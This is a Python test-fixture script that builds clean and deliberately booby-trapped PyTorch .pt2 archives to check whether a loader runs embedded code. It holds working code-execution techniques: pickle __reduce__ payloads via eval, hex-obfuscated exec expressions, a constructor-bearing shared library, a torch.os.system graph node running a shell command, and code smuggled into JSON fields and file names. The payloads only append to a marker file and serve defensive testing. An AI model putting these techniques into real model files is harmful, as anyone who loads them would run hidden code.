"""Write clean and booby-trapped .pt2 archives for the running torch (the tests' and the sweep's).

    python tests/evil_pt2.py OUTDIR MARKER        (or write_archives(OUTDIR, MARKER) from Python)

Adapted from the research tool /work/research/pt2/make_evil.py (issue #24), which found which
members and fields of an archive each torch from 2.6 on turns into code.

Every payload appends one line "<case>" to MARKER (an absolute path) when it runs, so a test
harness sees which case ran code and how often. The payloads return the real value they replace
(the sample inputs, the weight, the constant), so a vulnerable loader carries on as if nothing
happened: that is what makes the "no problems found" report possible.

Cases (OUTDIR/manifest.json lists those written, with the format and where the trap is):

  clean                 native torch.export.save of a small model (Linear + buffer + tensor constant)
  clean_dyn             the same with a dynamic batch dimension (exercises sympy expressions)
  clean_cond            a program with torch.cond (a higher-order op with subgraphs)
  clean_rezip           clean, re-zipped by Python's zipfile (control for the rewriting below)
  old_clean / old_dyn   the pre-2.7 layout (serialized_*.pt + version), built with serde.serialize
  sample_inputs         data/sample_inputs/model.pt (old: serialized_example_inputs.pt) is a torch.save
                        of an object whose __reduce__ runs the payload
  weight_pickle         a weight marked use_pickle in model_weights_config.json, its member a payload
                        (old: serialized_state_dict.pt holds the payload)
  constant_pickle       the same for data/constants (old: serialized_constants.pt)
  constant_opaque       a constant whose path_name starts with opaque_obj_ (torch: pickle.loads)
  constant_custom_obj   a constant whose path_name starts with custom_obj_ (torch: _pickle_load_obj)
  legacy_weights        data/weights/model.pt present (torch's BC path: raw bytes to torch.load)
  legacy_constants      data/constants/model.pt present
  aoti_so               data/aotinductor/model/model.wrapper.so + metadata: torch.export.load dlopens it
  sympy_expr            JSON only: an expr_str of a symbolic size carries Python code (sympy.sympify)
  fqn_quote             JSON only: a buffer's name carries a quote that breaks FX's generated code
  guards_code           JSON only: guards_code (2.9+ schema) carries Python code (exec'd by module())
  op_target             JSON only: a node whose target is torch.os.system (a non-op callable)
  treespec_import       JSON only: module_call_graph in_spec with a defaultdict context: torch imports
                        the module it names (gv_evil_mod.py, written beside the archives)
  treespec_enum         the same through an {"__enum__": ...} dict key (torch >= 2.7's enum_object_hook)
  placeholder_name      JSON only: a graph input named x=<code> (FX pastes placeholder names into def)
  name_inject_quote     clean, saved under a file name with \"\"\" and a newline (generated-script injection)
  name_inject_semicolon the same with \"\"\";<code>;\"\"\" and no newline (survives the repr() on line 1)
  name_inject_N         a file name with \\N (a malformed escape in the generated docstring)
  name_inject_all       \"\"\", ;<code>;, a newline and \\N together
  truncated / empty / notzip / broken_json / broken_weights_json / missing_model
"""
from __future__ import annotations

import io
import json
import os
import pickle
import re
import shutil
import sys
import zipfile

import torch


class Payload:
    """Unpickles to ``value`` after appending ``tag`` to ``marker``: a stealthy __reduce__ payload."""

    def __init__(self, tag: str, value, marker: str):
        self.tag, self.value, self.marker = tag, value, marker

    def __reduce__(self):
        code = f"(open({self.marker!r}, 'a').write({self.tag + chr(10)!r}), v)[1]"
        return (eval, (code, {"v": self.value}))


def py_payload(tag: str, marker: str) -> str:
    """A Python expression (no '.' '/' nor single quotes) that appends tag to marker; its value is None."""
    src = f"open({marker!r}, 'a').write({tag + chr(10)!r})"
    return (f'getattr(__import__("builtins"), "exec")'
            f'(getattr(__import__("codecs"), "decode")("{src.encode().hex()}", "hex"))')


def build_so(marker: str, tag: str, out: str) -> bytes | None:
    """A shared library whose constructor appends tag to marker (needs gcc; None without it)."""
    import subprocess
    import tempfile
    src = ("#include <stdio.h>\n__attribute__((constructor)) static void gv_payload(void) {"
           f"FILE *f = fopen({json.dumps(marker)}, \"a\"); if (f) {{ fputs({json.dumps(tag + chr(10))}, f); fclose(f); }} }}\n")
    with tempfile.TemporaryDirectory() as d:
        c, so = os.path.join(d, "p.c"), os.path.join(d, "p.so")
        open(c, "w").write(src)
        try:
            subprocess.run(["gcc", "-shared", "-fPIC", "-o", so, c], check=True, capture_output=True)
        except (OSError, subprocess.CalledProcessError):
            print("aoti_so not written: no working gcc", file=sys.stderr)
            return None
        return open(so, "rb").read()


class M(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.lin = torch.nn.Linear(3, 2)
        self.register_buffer("buf", torch.ones(2))
        self.c = torch.tensor([1.0, 2.0])       # a lifted tensor constant

    def forward(self, x):
        return self.lin(x) + self.buf + self.c


class D(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.lin = torch.nn.Linear(3, 2)

    def forward(self, x):
        return self.lin(x) * x.shape[0]


class C(torch.nn.Module):
    def forward(self, x):
        return torch.cond(x.sum() > 0, lambda t: t.sin(), lambda t: t.cos(), (x,))


def programs():
    torch.manual_seed(0)
    x = torch.randn(4, 3)
    ep = torch.export.export(M(), (x,))
    dyn = torch.export.export(D(), (x,), dynamic_shapes=({0: torch.export.Dim("b", min=2, max=64)},))
    cond = torch.export.export(C(), (x,))
    return ep, dyn, cond


def is_new_format(path: str) -> bool:
    with zipfile.ZipFile(path) as z:
        return any(n.endswith("/archive_format") for n in z.namelist())


def rewrite(src: str, dst: str, change: dict[str, bytes | None] | None = None,
            add: dict[str, bytes] | None = None) -> None:
    """Copy a zip, replacing (bytes) or dropping (None) members named relative to its root folder."""
    change, add = change or {}, add or {}
    with zipfile.ZipFile(src) as zin:
        names = zin.namelist()
        root = names[0].split("/", 1)[0] + "/" if is_new_format(src) else ""
        with zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
            for info in zin.infolist():
                rel = info.filename[len(root):]
                if rel in change:
                    if change[rel] is not None:
                        zout.writestr(info.filename, change[rel])
                else:
                    zout.writestr(info.filename, zin.read(info.filename))
            for rel, data in add.items():
                zout.writestr(root + rel, data)


def read_member(path: str, rel: str) -> bytes:
    with zipfile.ZipFile(path) as z:
        names = z.namelist()
        root = names[0].split("/", 1)[0] + "/" if is_new_format(path) else ""
        return z.read(root + rel)


def save_old(ep, path: str) -> None:
    """The pre-2.7 layout, as torch 2.6's torch.export.save writes it."""
    from torch._export.serde.schema import SCHEMA_VERSION
    from torch._export.serde.serialize import serialize
    art = serialize(ep)
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("serialized_exported_program.json", art.exported_program)
        z.writestr("serialized_state_dict.pt", art.state_dict)
        z.writestr("serialized_constants.pt", art.constants)
        z.writestr("serialized_example_inputs.pt", art.example_inputs)
        z.writestr("version", ".".join(map(str, SCHEMA_VERSION)))


def tsave(obj) -> bytes:
    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


def json_member(path: str) -> str:
    return "models/model.json" if is_new_format(path) else "serialized_exported_program.json"


def edit_json(src: str, dst: str, fn) -> None:
    rel = json_member(src)
    doc = json.loads(read_member(src, rel))
    fn(doc)
    rewrite(src, dst, {rel: json.dumps(doc).encode()})


def write_archives(out: str, marker: str) -> dict:
    os.makedirs(out, exist_ok=True)
    ep, dyn, cond = programs()
    manifest: dict[str, dict] = {}

    def note(name, fmt, trap, **kw):
        manifest[name] = {"format": fmt, "trap": trap, **kw}

    p = lambda name: os.path.join(out, name + ".pt2")  # noqa: E731
    torch.export.save(ep, p("clean"))
    native = "new" if is_new_format(p("clean")) else "old"
    note("clean", native, None)
    torch.export.save(dyn, p("clean_dyn"))
    note("clean_dyn", native, None)
    try:
        torch.export.save(cond, p("clean_cond"))
        note("clean_cond", native, None)
    except Exception as exc:  # noqa: BLE001
        print("clean_cond not written:", exc, file=sys.stderr)
    rewrite(p("clean"), p("clean_rezip"))
    note("clean_rezip", native, None)
    save_old(ep, p("old_clean"))
    note("old_clean", "old", None)
    save_old(dyn, p("old_dyn"))
    note("old_dyn", "old", None)

    example = ep.example_inputs
    sd = ep.state_dict
    consts = ep.constants

    # --- pickled members -------------------------------------------------------------
    for fmt, base in (("new", "clean"), ("old", "old_clean")) if native == "new" else (("old", "clean"),):
        pre = "" if fmt == "new" else "old_"
        if fmt == "new":
            rewrite(p(base), p(pre + "sample_inputs"),
                    {"data/sample_inputs/model.pt": tsave(Payload("sample_inputs", example, marker))})
        else:
            rewrite(p(base), p(pre + "sample_inputs"),
                    {"serialized_example_inputs.pt": tsave(Payload("old_sample_inputs", example, marker))})
        note(pre + "sample_inputs", fmt, "pickle: sample inputs")

        if fmt == "new":
            cfg = json.loads(read_member(p(base), "data/weights/model_weights_config.json"))
            entry = cfg["config"]["lin.weight"]
            entry["use_pickle"] = True
            rewrite(p(base), p("weight_pickle"), {
                "data/weights/model_weights_config.json": json.dumps(cfg).encode(),
                "data/weights/" + entry["path_name"]: tsave(Payload("weight_pickle", sd["lin.weight"], marker))})
            note("weight_pickle", fmt, "pickle: weight use_pickle")

            ccfg = json.loads(read_member(p(base), "data/constants/model_constants_config.json"))
            centry = ccfg["config"]["c"]
            centry["use_pickle"] = True
            rewrite(p(base), p("constant_pickle"), {
                "data/constants/model_constants_config.json": json.dumps(ccfg).encode(),
                "data/constants/" + centry["path_name"]: tsave(Payload("constant_pickle", consts["c"], marker))})
            note("constant_pickle", fmt, "pickle: constant use_pickle")

            for prefix, case, blob in (
                    ("opaque_obj_", "constant_opaque", pickle.dumps(Payload("constant_opaque", consts["c"], marker))),
                    ("custom_obj_", "constant_custom_obj",
                     pickle.dumps(Payload("constant_custom_obj", consts["c"], marker)))):
                ccfg = json.loads(read_member(p(base), "data/constants/model_constants_config.json"))
                old_name = ccfg["config"]["c"]["path_name"]
                ccfg["config"]["c"]["path_name"] = prefix + "0"
                ccfg["config"]["c"]["use_pickle"] = True
                rewrite(p(base), p(case), {
                    "data/constants/model_constants_config.json": json.dumps(ccfg).encode(),
                    "data/constants/" + old_name: None}, add={"data/constants/" + prefix + "0": blob})
                note(case, fmt, f"pickle: constant {prefix}")

            rewrite(p(base), p("legacy_weights"),
                    add={"data/weights/model.pt": tsave(Payload("legacy_weights", dict(sd), marker))})
            note("legacy_weights", fmt, "pickle: legacy data/weights/model.pt")
            rewrite(p(base), p("legacy_constants"),
                    add={"data/constants/model.pt": tsave(Payload("legacy_constants", dict(consts), marker))})
            note("legacy_constants", fmt, "pickle: legacy data/constants/model.pt")
        else:
            rewrite(p(base), p(pre + "weight_pickle"),
                    {"serialized_state_dict.pt": tsave(Payload("old_weight_pickle", dict(sd), marker))})
            note(pre + "weight_pickle", fmt, "pickle: serialized_state_dict.pt")
            rewrite(p(base), p(pre + "constant_pickle"),
                    {"serialized_constants.pt": tsave(Payload("old_constant_pickle", dict(consts), marker))})
            note(pre + "constant_pickle", fmt, "pickle: serialized_constants.pt")

    # --- native code: an AOTInductor member (torch >= 2.7's load_pt2 dlopens it) -----------
    if native == "new":
        so = build_so(marker, "aoti_so", out)
        if so is not None:
            meta = json.dumps({"AOTI_DEVICE_KEY": "cpu"}).encode()
            rewrite(p("clean"), p("aoti_so"), add={"data/aotinductor/model/model.wrapper.so": so,
                                                    "data/aotinductor/model/model.wrapper_metadata.json": meta})
            note("aoti_so", "new", "native: data/aotinductor/model/*.so (dlopen)")

    # --- JSON-only traps -------------------------------------------------------------
    dyn_bases = (("new", "clean_dyn"), ("old", "old_dyn")) if native == "new" else (("old", "clean_dyn"),)
    for fmt, base in dyn_bases:
        pre = "" if fmt == "new" else "old_"
        tag = pre + "sympy_expr"

        def sym(doc, tag=tag):
            s = json.dumps(doc)
            m = re.search(r'"expr_str": "((?:[^"\\]|\\.)*)"', s)
            expr = json.loads('"' + m.group(1) + '"')
            evil = f"{expr} + 0*len(repr({py_payload(tag, marker)}))"
            doc_s = s[:m.start(1)] + json.dumps(evil)[1:-1] + s[m.end(1):]
            doc.clear()
            doc.update(json.loads(doc_s))
        edit_json(p(base), p(tag), sym)
        note(tag, fmt, "json: sympy expr_str")

    bases = (("new", "clean"), ("old", "old_clean")) if native == "new" else (("old", "clean"),)
    for fmt, base in bases:
        pre = "" if fmt == "new" else "old_"
        tag = pre + "fqn_quote"
        evil_name = f'buf" if {py_payload(tag, marker)} else "buf'
        assert "." not in evil_name

        def fqn(doc, evil_name=evil_name):
            for spec in doc["graph_module"]["signature"]["input_specs"]:
                if "buffer" in spec and spec["buffer"]["buffer_name"] == "buf":
                    spec["buffer"]["buffer_name"] = evil_name
        # the weights are keyed by the same name
        rel = json_member(p(base))
        doc = json.loads(read_member(p(base), rel))
        fqn(doc)
        change = {rel: json.dumps(doc).encode()}
        if fmt == "new":
            cfg = json.loads(read_member(p(base), "data/weights/model_weights_config.json"))
            cfg["config"][evil_name] = cfg["config"].pop("buf")
            change["data/weights/model_weights_config.json"] = json.dumps(cfg).encode()
        else:
            sd2 = dict(sd)
            sd2[evil_name] = sd2.pop("buf")
            change["serialized_state_dict.pt"] = tsave(sd2)
        rewrite(p(base), p(tag), change)
        note(tag, fmt, "json: quote in a buffer name (FX codegen)")

        tag = pre + "guards_code"

        def guards(doc, tag=tag):
            doc["guards_code"] = [f"{py_payload(tag, marker)} is None"]
        edit_json(p(base), p(tag), guards)
        note(tag, fmt, "json: guards_code")

        tag = pre + "op_target"

        def target(doc, tag=tag):
            nodes = doc["graph_module"]["graph"]["nodes"]
            first_in = doc["graph_module"]["graph"]["inputs"][-1]["as_tensor"]["name"]
            cmd = f"echo {tag} >> {marker}"
            evil = {"target": "torch.os.system",
                    "inputs": [{"name": "command", "arg": {"as_string": cmd}, "kind": 1}],
                    "outputs": [{"as_none": True}], "metadata": {}, "name": "evil_call",
                    "is_hop_single_tensor_return": None}
            for k in [k for k in evil if k not in nodes[0]]:   # only the fields this torch's schema has
                del evil[k]
            for arg in evil["inputs"]:
                if "kind" not in nodes[0]["inputs"][0]:
                    del arg["kind"]
            nodes.insert(0, evil)
            del first_in
            doc["verifiers"] = []     # an empty list: ExportedProgram runs no verifier at all
        edit_json(p(base), p(tag), target)
        note(tag, fmt, "json: node target torch.os.system")

        tag = pre + "treespec_import"

        def treespec(doc, tag=tag):
            sig = doc["graph_module"]["module_call_graph"][0]["signature"]
            spec = json.loads(sig["in_spec"])
            ctx = {"default_factory_module": "gv_evil_mod", "default_factory_name": "factory", "dict_context": []}
            spec[1]["children_spec"][1] = {"type": "collections.defaultdict", "context": ctx,
                                           "children_spec": []}
            sig["in_spec"] = json.dumps(spec)
        edit_json(p(base), p(tag), treespec)
        note(tag, fmt, "json: pytree in_spec defaultdict imports a module by name (needs it on sys.path)")

        tag = pre + "treespec_enum"

        def treespec_enum(doc, tag=tag):
            sig = doc["graph_module"]["module_call_graph"][0]["signature"]
            spec = json.loads(sig["in_spec"])
            keys = [{"__enum__": True, "fqn": "gv_evil_mod:table", "name": "a"}]
            spec[1]["children_spec"][1]["context"] = json.dumps(keys)
            spec[1]["children_spec"][1]["children_spec"] = [{"type": None, "context": None, "children_spec": []}]
            sig["in_spec"] = json.dumps(spec)
        edit_json(p(base), p(tag), treespec_enum)
        note(tag, fmt, "json: pytree in_spec enum key imports a module by name (needs it on sys.path)")

        tag = pre + "placeholder_name"
        evil_input = f"x={py_payload(tag, marker)}"

        def placeholder(doc, evil_input=evil_input):
            s = json.dumps(doc)
            s = s.replace('{"name": "x"}', json.dumps({"name": evil_input}))
            s = s.replace('"x": {"dtype"', json.dumps(evil_input) + ': {"dtype"')
            doc.clear()
            doc.update(json.loads(s))
        edit_json(p(base), p(tag), placeholder)
        note(tag, fmt, "json: code in a graph input's name (FX placeholder)")

    # the module treespec_import names: on sys.path when the loader's cwd is OUTDIR (gradviz's
    # generated script puts the cwd first on sys.path; run_matrix.py adds OUTDIR for this case)
    with open(os.path.join(out, "gv_evil_mod.py"), "w") as f:
        f.write(f"open({marker!r}, 'a').write('treespec_import' + chr(10))\nfactory = dict\ntable = {{'a': 'x'}}\n")

    # --- file names for the generated-script case ----------------------------------
    def short(tag):   # file names: at most 255 bytes, no '/'; the marker relative to OUTDIR (gradviz's cwd)
        parts = os.path.relpath(marker, out).split(os.sep)
        return f'open(chr(47).join({tuple(parts)!r}),"a").write("{tag}"+chr(10))'.replace("'", '"')
    inject = f'\n{short("name_inject_quote")}\n'
    for case, name in (("name_inject_quote", f'q"""{inject}"""q.pt2'),
                       ("name_inject_semicolon", f's""";{short("name_inject_semicolon")};"""s.pt2'),
                       ("name_inject_N", 'n\\N{x}\\Nn.pt2'),
                       ("name_inject_all", f'a""";{short("name_inject_all")};"""\n\\Na.pt2')):
        shutil.copy(p("clean"), os.path.join(out, name))
        manifest[case] = {"format": native, "trap": "file name", "file": name}

    # --- broken archives -------------------------------------------------------------
    data = open(p("clean"), "rb").read()
    open(p("truncated"), "wb").write(data[: len(data) // 2])
    note("truncated", native, "broken: truncated")
    open(p("empty"), "wb").close()
    note("empty", native, "broken: empty")
    open(p("notzip"), "wb").write(b"this is not a zip archive\n" * 10)
    note("notzip", native, "broken: not a zip")
    rel = json_member(p("clean"))
    rewrite(p("clean"), p("broken_json"), {rel: read_member(p("clean"), rel)[:200]})
    note("broken_json", native, "broken: model JSON cut")
    rewrite(p("clean"), p("missing_model"), {rel: None})
    note("missing_model", native, "broken: model JSON missing")
    if native == "new":
        rewrite(p("clean"), p("broken_weights_json"), {"data/weights/model_weights_config.json": b"{not json"})
        note("broken_weights_json", native, "broken: weights config")
    for name, info in manifest.items():
        info.setdefault("file", name + ".pt2")
    with open(os.path.join(out, "manifest.json"), "w") as f:
        json.dump({"torch": torch.__version__, "marker": marker, "cases": manifest}, f, indent=1)
    return manifest


if __name__ == "__main__":
    made = write_archives(sys.argv[1], os.path.abspath(sys.argv[2]))
    print(f"torch {torch.__version__}: {len(made)} archives in {sys.argv[1]}")
